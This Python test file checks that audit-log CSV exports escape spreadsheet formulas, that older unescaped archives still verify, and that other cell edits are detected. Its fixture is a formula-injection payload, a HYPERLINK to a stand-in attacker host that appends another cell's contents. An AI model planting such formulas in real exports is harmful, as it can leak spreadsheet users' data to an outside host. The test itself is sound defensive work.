"""Offline verify of CSV exports whose cells are escaped against spreadsheet formulas.

Readable cells are compared with what the export derives from the hashed
record: a formula-like value (``export.FORMULA_STARTS``) is exported with a
leading ``'``, and an archive exported before that, with the value bare, must
still verify for its retention period. Any other value is still an edit.
"""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import orjson
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from gateway.audit.export import Exporter
from gateway.audit.offline import verify_export
from gateway.audit.query import DecisionFilters
from gateway.audit.writer import AuditWriter
from tests.audit.conftest import make_record

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'


async def _export_csv(sessions: async_sessionmaker[AsyncSession], path: Path) -> list[list[str]]:
    exporter = Exporter(sessions, DecisionFilters(), "csv", chunk=8)
    with path.open("wb") as fh:
        async for line in exporter.lines():
            fh.write(line)
    path.with_name(path.name + ".manifest.json").write_bytes(orjson.dumps(exporter.manifest))
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def _rewrite(path: Path, rows: list[list[str]]) -> None:
    """Rows written back as the export writes them, with the manifest's digest of
    them: what an archive exported so would hold (or a forger would fix up)."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    data = buf.getvalue().encode("utf-8")
    path.write_bytes(data)
    manifest_path = path.with_name(path.name + ".manifest.json")
    manifest = orjson.loads(manifest_path.read_bytes())
    manifest["data_sha256"] = hashlib.sha256(data).hexdigest()
    manifest_path.write_bytes(orjson.dumps(manifest))


async def test_escaped_and_archived_formula_cells_verify_and_edits_do_not(
    writer: AuditWriter, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    for i in range(3):
        await writer.record(make_record(i, model=FORMULA if i == 1 else "haiku-lite"))
    path = tmp_path / "all.csv"
    rows = await _export_csv(sessions, path)
    column = rows[0].index("model")
    assert [row[column] for row in rows[1:]] == ["haiku-lite", "'" + FORMULA, "haiku-lite"]
    trusted = [writer.signer.public_raw]
    assert verify_export(path, trusted_keys=trusted).problems == []

    archived = [list(row) for row in rows]
    archived[2][column] = FORMULA  # as exported before cells were escaped
    _rewrite(path, archived)
    assert verify_export(path, trusted_keys=trusted).problems == []

    edited = [list(row) for row in rows]
    edited[2][column] = "'=1+1"
    _rewrite(path, edited)
    problems = verify_export(path, trusted_keys=trusted).problems
    assert [p.kind for p in problems] == ["column_mismatch"]
    assert "'model' differ" in problems[0].message
